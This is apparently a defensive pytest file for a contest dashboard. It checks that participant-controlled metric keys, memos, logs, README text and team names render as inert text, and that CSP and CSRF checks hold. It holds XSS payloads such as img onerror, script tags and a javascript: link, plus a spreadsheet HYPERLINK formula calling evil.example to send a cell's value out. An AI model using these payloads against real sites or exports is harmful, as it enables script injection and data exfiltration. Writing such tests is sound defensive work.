"""The dashboard against hostile participant data: metric keys, memos, checkpoint names, log lines and a task's
README that hold HTML and script are shown as text and never run (in a real headless Chromium, as in
test_web.py); every dashboard answer carries a strict Content-Security-Policy; every form is CSRF-checked; the
HTTP API never takes the login cookie. The metric key and checkpoint name are put straight into the database:
whatever the events reader lets through, the pages must not run it (defence in depth)."""
import csv
import io
import re
from html.parser import HTMLParser
from pathlib import Path

import httpx
import pytest
from helpers import NSML_MAIN, ORGANIZER, csrf_of, make_tiny_task, participant, run_session, web_login
from test_web import _login, browser  # noqa: F401 (a fixture)

from harness.core.escape import csv_cell
from harness.web import security
from harness.web.pages import flat_row

WEB = Path(__file__).resolve().parent.parent / "harness" / "web"
IMG = '<img src=x onerror="window.__pwned=1">'
SCRIPT = "<script>window.__pwned=2</script>"
ALERT = "<img src=x onerror=alert(3)>"  # shown as is where "__" would become "/" (metric keys)
KEYS = [IMG + SCRIPT, ALERT]
CHECKPOINT = IMG + SCRIPT
MEMO = IMG + SCRIPT + ALERT
LOG_LINE = "log " + IMG + SCRIPT + ALERT
README = f"# Tiny\n\n{IMG}{SCRIPT}\n\n[click me](javascript:alert(5))\n"
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"details")'  # a checkpoint name, as the board CSV has it
CSP_WATCH = ("window.__csp = []; document.addEventListener('securitypolicyviolation', "
             "e => window.__csp.push(e.violatedDirective + ' ' + e.blockedURI));")


def shown(key: str) -> str:
    return key.replace("__", "/")  # how the graphs name a metric key (NSML's train__loss is train/loss)


@pytest.fixture
def hostile_site(cli, served, remote_cli, tmp_path):
    task = make_tiny_task(tmp_path / "tiny")
    (task / "README.md").write_text(README)
    cli("dataset", "add", task, user=ORGANIZER)
    first = "from nsml import DATASET_PATH\n"  # the payload printed by training and by a submit's infer run
    folder = participant(tmp_path / "code", NSML_MAIN.replace(first, f"{first}print({LOG_LINE!r})\n", 1))
    return served, remote_cli, folder


def plant(name: str, submission: int) -> None:
    """Straight into the database beside what the session reported: hostile metric keys (three reports each, the
    last a summary), a hostile checkpoint, and a ranked submission's checkpoint made a formula, its score
    negative."""
    from sqlalchemy import select

    from harness.core.settings import load_settings
    from harness.state import Harness
    from harness.store.models import Checkpoint, Metric, Session, Submission
    h = Harness(load_settings(user=ORGANIZER))
    try:
        with h.tx() as db:
            sid = db.scalar(select(Session.id).where(Session.name == name))
            for key in KEYS:
                for step in range(3):
                    db.add(Metric(session_id=sid, key=key, value=1.0 / (step + 1), raw=1.0 / (step + 1), step=step,
                                  summary=step == 2))
            db.add(Checkpoint(session_id=sid, name=CHECKPOINT, size=1, summary={KEYS[0]: 0.5}))
            sub = db.get(Submission, submission)
            sub.checkpoint, sub.score = FORMULA, -0.5
    finally:
        h.store.close()


def rename_teams(names: dict[str, str]) -> None:
    """Teams renamed straight in the database (OLD -> NEW), past the contest file's name rule."""
    from sqlalchemy import select

    from harness.core.settings import load_settings
    from harness.state import Harness
    from harness.store.models import Team
    h = Harness(load_settings(user=ORGANIZER))
    try:
        with h.tx() as db:
            for team in db.scalars(select(Team).where(Team.name.in_(list(names)))):
                team.name = names[team.name]
    finally:
        h.store.close()


def assert_inert(page, dialogs):
    """Nothing ran, nothing was injected, and the CSP had nothing to block (so the page shows the text as text,
    not as HTML the CSP then stopped)."""
    assert page.evaluate("typeof window.__pwned") == "undefined"
    assert page.locator("img[src=x]").count() == 0 and page.locator("script:not([src])").count() == 0
    assert page.evaluate("window.__csp") == []
    assert dialogs == []


def test_hostile_text_is_shown_as_text_and_never_runs(browser, hostile_site, cli):  # noqa: F811
    served, remote, folder = hostile_site
    name = run_session(cli, folder)
    remote("memo", name, MEMO)  # through the HTTP API
    real = cli.json("submit", name, "1")  # a scored entry: the board's chart draws (its legend names alice)
    plant(name, real["id"])
    dry = cli.json("submit", "-t", name, "1")  # its infer log (the participant's code printed the payload)
    page = _login(browser, served.url, remote.token("alice"))
    dialogs = []
    page.on("dialog", lambda d: (dialogs.append(d.message), d.dismiss()))
    page.add_init_script(CSP_WATCH)

    page.goto(f"{served.url}/sessions/{name}")
    page.wait_for_function("() => document.querySelectorAll('.chart h3').length >= 3", timeout=30000)
    titles = page.locator(".chart h3").all_text_contents()
    assert shown(KEYS[0]) in titles and KEYS[1] in titles and "train/loss" in titles
    assert name in page.inner_text(".chart:has(h3:text-is('train/loss'))")  # uPlot's legend: the session
    page.wait_for_function("() => document.querySelector('#log').textContent.includes('done training')", timeout=30000)
    assert LOG_LINE in page.text_content("#log")
    assert MEMO in page.inner_text("#facts") and page.input_value("input[name=text]") == MEMO
    assert f"{shown(KEYS[0])}=" in page.inner_text("#facts")  # the summary
    assert CHECKPOINT in page.inner_text("#checkpoints") and f"{shown(KEYS[0])}=0.5" in page.inner_text("#checkpoints")
    assert_inert(page, dialogs)
    remote("memo", name, "again " + MEMO)  # refresh.js rebuilds the facts: still text
    page.wait_for_function("() => document.querySelector('#facts').textContent.includes('again <img')", timeout=10000)
    assert_inert(page, dialogs)

    page.goto(f"{served.url}/sessions")
    assert MEMO in page.inner_text("main") and shown(KEYS[0]) in page.inner_text("main")
    assert_inert(page, dialogs)

    page.goto(f"{served.url}/compare?s={name}")
    page.wait_for_function("() => document.querySelectorAll('.chart h3').length >= 3", timeout=30000)
    assert KEYS[1] in page.locator(".chart h3").all_text_contents()
    assert_inert(page, dialogs)

    page.goto(f"{served.url}/submissions/{dry['id']}")
    assert LOG_LINE in page.inner_text("#infer-log")
    assert_inert(page, dialogs)

    page.goto(f"{served.url}/tasks/tiny")
    page.wait_for_function("() => document.querySelector('#history-chart').dataset.lines === '1'", timeout=30000)
    assert "alice" in page.inner_text("#history-chart")
    readme = page.inner_text("section.readme")
    assert IMG + SCRIPT in readme and "javascript:alert(5)" in readme  # raw HTML and the link stay text
    assert page.locator("a[href^='javascript']").count() == 0
    assert_inert(page, dialogs)

    rows = list(csv.DictReader(io.StringIO(page.request.get(f"{served.url}/tasks/tiny/board.csv").text())))
    assert rows[0]["checkpoint"] == "'" + FORMULA and rows[0]["score"] == "-0.5"  # text neutralised, numbers not
    assert rows == [{k: "" if v is None else str(csv_cell(v)) for k, v in flat_row(r).items()}
                    for r in cli.json("board", "tiny")]


def test_every_dashboard_answer_has_the_csp_and_forms_need_their_csrf_token(cli, served, remote_cli, tiny_task,
                                                                            nsml_folder):
    name = run_session(cli, nsml_folder)
    alice = httpx.Client(base_url=served.url)
    login_page = alice.get("/login")
    web_login(alice, remote_cli.token("alice"))
    sub = cli.json("submit", "-t", name, "1")
    for path in ("/login", "/tasks", "/tasks/tiny", "/tasks/tiny/board.json", "/tasks/tiny/board.csv", "/sessions",
                 f"/sessions/{name}", f"/sessions/{name}/facts.json", f"/sessions/{name}/metrics.json", "/submissions",
                 f"/submissions/{sub['id']}", "/contests", f"/compare?s={name}", "/static/charts.js", "/audit",
                 "/sessions/bob/tiny/1"):
        r = alice.get(path)
        assert r.status_code in (200, 403, 404), (path, r.status_code)
        assert r.headers["content-security-policy"] == security.CSP, path
        assert r.headers["x-content-type-options"] == "nosniff" and r.headers["referrer-policy"] == "same-origin"
    for directive in ("default-src 'self'", "script-src 'self'", "object-src 'none'", "base-uri 'none'",
                      "frame-ancestors 'none'", "form-action 'self'"):
        assert directive in security.CSP
    assert "unsafe" not in security.CSP
    api = alice.get("/api/v1/whoami")  # the cookie is no credential to the API
    assert api.status_code == 401 and api.headers["x-content-type-options"] == "nosniff"
    assert api.headers["content-security-policy"] == security.CSP  # the API's answers too
    assert alice.get("/api/v1/docs").status_code == 404  # no Swagger page (its scripts come from a CDN)

    memo = f"/sessions/{name}/memo"
    token = csrf_of(alice.get(f"/sessions/{name}").text)
    bob = httpx.Client(base_url=served.url)
    web_login(bob, remote_cli.token("bob"))
    for data in ({"text": "forged"}, {"text": "forged", "csrf": "0" * 64}, {"text": "forged", "csrf": ""},
                 {"text": "forged", "csrf": csrf_of(bob.get("/tasks").text)},  # bob's token is not alice's
                 {"text": "forged", "csrf": csrf_of(login_page.text)}):  # nor is the login form's
        r = alice.post(memo, data=data)
        assert r.status_code == 403 and security.REFUSED in r.text, data
        assert r.headers["content-security-policy"] == security.CSP
    assert alice.post(memo, content=b'{"text": "forged", "csrf": "%s"}' % token.encode(),
                      headers={"content-type": "application/json"}).status_code == 403  # a form or nothing
    assert cli.json("ps", "-a")[0]["memo"] == ""  # nothing changed
    r = alice.post(memo, data={"text": "mine", "csrf": token})
    assert r.status_code == 303 and cli.json("ps", "-a")[0]["memo"] == "mine"

    assert alice.post("/logout").status_code == 403
    assert alice.get("/tasks").status_code == 200  # still logged in
    assert alice.post("/logout", data={"csrf": token}).status_code == 303
    assert alice.get("/tasks").status_code == 303  # logged out: sent to the login form

    fresh = httpx.Client(base_url=served.url)  # a login posted from elsewhere: no pre-login cookie
    assert fresh.post("/login", data={"token": remote_cli.token("alice"), "csrf": "x" * 64}).status_code == 403
    fresh.get("/login")
    assert fresh.post("/login", data={"token": remote_cli.token("alice"), "csrf": "x" * 64}).status_code == 403
    assert "nsml_token" not in fresh.cookies
    web_login(fresh, remote_cli.token("alice"))
    assert fresh.get("/tasks").status_code == 200


def test_every_dashboard_post_route_checks_the_csrf_token(state_root):
    """Route by route (in-process, no scheduler started): a logged-in POST without the token is refused before
    its route runs; the API's routes never read the cookie."""
    from fastapi.routing import APIRoute
    from starlette.testclient import TestClient

    from harness.core.settings import load_settings
    from harness.server import derived, transfers
    from harness.server.app import API, create_app
    from harness.service import accounts
    from harness.state import Harness
    from harness.web import organizer_pages, pages, session_pages
    h = Harness(load_settings(user=ORGANIZER))
    try:
        token = accounts.add_user(h, ORGANIZER, organizer=True)
    finally:
        h.store.close()
    app = create_app(load_settings(user=ORGANIZER))
    client = TestClient(app, cookies={security.COOKIE: token}, follow_redirects=False)
    params = {"user": ORGANIZER, "task": "tiny", "number": "1", "contest": "cup", "round_name": "r1"}
    unsafe = {"POST", "PUT", "PATCH", "DELETE"}
    dashboard = [r for m in (pages, session_pages, organizer_pages) for r in m.router.routes
                 if isinstance(r, APIRoute) and unsafe & r.methods]
    assert {r.path for r in dashboard} >= {"/login", "/logout", "/sessions/{user}/{task}/{number}/memo",
                                           "/tasks/{task}/hide", "/rounds/{contest}/{round_name}/close"}
    for route in dashboard:
        path = route.path.format(**params)
        for method in route.methods & unsafe:
            r = client.request(method, path, data={"text": "x", "submission": "1", "name": "x", "checkpoint": "1"})
            assert r.status_code == 403 and security.REFUSED in r.text, (method, path, r.status_code)
    for route in [r for m in (derived, transfers) for r in m.router.routes if unsafe & r.methods]:
        path = API + route.path.format(**{**params, "name": "x", "sub_id": "1", "pattern": "x"})
        for method in route.methods & unsafe:  # the cookie alone is no credential: 401 (or a 422 before that)
            assert client.request(method, path, json={}).status_code in (401, 422), (method, path)
    assert client.get(f"{API}/whoami").status_code == 401
    app.state.server.base.store.close()


class _Template(HTMLParser):
    def __init__(self):
        super().__init__()
        self.problems, self.in_script = [], False

    def handle_starttag(self, tag, attrs):
        names = dict(attrs)
        self.problems += [f"{tag} {a}=" for a in names if re.fullmatch(r"on[a-z]+", a) or a == "style"]
        if tag == "style":
            self.problems.append("<style>")
        if tag == "script":
            self.in_script = True
            if not (names.get("src") or "").startswith("/static/"):
                self.problems.append("<script> not from /static")
        if any((v or "").strip().lower().startswith("javascript:") for v in names.values()):
            self.problems.append(f"{tag} javascript: URL")

    def handle_endtag(self, tag):
        self.in_script = self.in_script and tag != "script"

    def handle_data(self, data):
        if self.in_script and data.strip():
            self.problems.append("inline script")


@pytest.mark.parametrize("template", sorted(p.name for p in (WEB / "templates").glob("*.html")))
def test_templates_hold_no_inline_script_handler_or_style(template):
    text = re.sub(r"\{#.*?#\}", "", (WEB / "templates" / template).read_text(), flags=re.DOTALL)
    parser = _Template()
    parser.feed(text)
    assert parser.problems == [] and not re.search(r"\son[a-z]+\s*=", text), parser.problems
    if "<form" in text:  # every form that posts carries the CSRF field
        posts = re.findall(r"<form[^>]*method=\"post\"[^>]*>(.{0,40})", text)
        assert all(p.startswith("{{ csrf_field(") for p in posts), posts


@pytest.mark.parametrize("script", sorted(p.name for p in (WEB / "static").glob("*.js")))
def test_dashboard_scripts_never_parse_data_as_html(script):
    text = (WEB / "static" / script).read_text()
    for sink in ("innerHTML", "outerHTML", "insertAdjacentHTML", "document.write", "eval(", "new Function",
                 "setAttribute(\"on", "setTimeout(\"", "setInterval(\""):
        assert sink not in text, f"{script}: {sink}"


def test_hostile_team_names_on_a_round_board_and_its_chart_are_text(browser, hostile_site, cli, tmp_path):  # noqa: F811
    """Teams named with markup (the contest file refuses such names: put straight into the database, as plant()
    does): on both tabs of a closed round's board (one ranked, one unscored below with its reason), in the chart's
    legend and on the contests page, they are text and nothing runs."""
    served, remote, folder = hostile_site
    with open(tmp_path / "tiny" / "task.toml", "a") as fh:  # a round's task splits its test set
        fh.write('\n[split]\nlabel = "lines"\nprediction = "lines"\n')
    spec = tmp_path / "cup.toml"
    spec.write_text('name = "cup"\n[teams]\nt1 = ["alice"]\nt2 = ["bob"]\n'
                    '[[rounds]]\nname = "r1"\ntasks = ["tiny"]\nstart = 2026-07-01T00:00:00\n'
                    'end = 2026-07-02T00:00:00\npublic_fraction = 0.5\nsplit_seed = 0\n')
    cli("contest", "clock", "2026-07-01T01:00:00", user=ORGANIZER)
    cli("contest", "create", spec, user=ORGANIZER)
    cli("submit", run_session(cli, folder), "1")
    cli("contest", "clock", "2026-07-02T01:00:00", user=ORGANIZER)
    cli("contest", "close", "cup/r1", user=ORGANIZER)
    rename_teams({"t1": IMG + SCRIPT, "t2": ALERT})
    page = _login(browser, served.url, remote.token("bob"))
    dialogs = []
    page.on("dialog", lambda d: (dialogs.append(d.message), d.dismiss()))
    page.add_init_script(CSP_WATCH)
    for tab in ("public", "private"):
        page.goto(f"{served.url}/tasks/tiny?tab={tab}")
        page.wait_for_function("() => document.querySelector('#history-chart').dataset.lines === '1'", timeout=30000)
        assert page.locator("#board tbody tr[data-team]").evaluate_all("rs => rs.map(r => r.dataset.team)") == \
            [IMG + SCRIPT, ALERT]  # the ranked team, then the unscored one
        assert "no submission" in page.inner_text(f"#board tr[data-team='{ALERT}']")
        assert page.locator("#history-chart .u-legend .u-label").all_inner_texts()[1] == IMG + SCRIPT
        assert_inert(page, dialogs)
    page.goto(f"{served.url}/contests")
    assert IMG + SCRIPT in page.inner_text("main") and ALERT in page.inner_text("main")
    assert_inert(page, dialogs)


def test_a_flood_of_metric_keys_draws_a_bounded_page(browser, hostile_site, cli):  # noqa: F811
    """A run may report 100 keys at a time and 100,000 points: one new key each would be 100,000 charts for
    whoever opens its page. One answer holds the first MAX_SERIES metrics, and the page says how many it left."""
    from sqlalchemy import select

    from harness.core.settings import load_settings
    from harness.service.metrics import MAX_SERIES, series
    from harness.state import Harness
    from harness.store.models import Metric, Session
    served, remote, folder = hostile_site
    name = run_session(cli, folder)
    h = Harness(load_settings(user=ORGANIZER))
    try:
        with h.tx() as db:
            sid = db.scalar(select(Session.id).where(Session.name == name))
            db.add_all(Metric(session_id=sid, key=f"flood/{i:05d}", value=float(i), raw=float(i), step=0)
                       for i in range(3000))
    finally:
        h.store.close()
    h = Harness(load_settings(user="alice"))
    try:
        got = series(h, name)
    finally:
        h.store.close()
    assert len(got["series"]) == MAX_SERIES and got["metrics"] == 3002  # (+ the run's own train/loss and epoch)
    assert "train/loss" in got["series"]  # the first reported are kept
    page = _login(browser, served.url, remote.token("alice"))
    page.goto(f"{served.url}/sessions/{name}")
    page.wait_for_function("() => document.getElementById('charts-cut') !== null", timeout=30000)
    assert page.locator(".chart").count() == MAX_SERIES
    assert page.inner_text("#charts-cut") == f"{name}: the first {MAX_SERIES} of 3002 metrics are drawn"
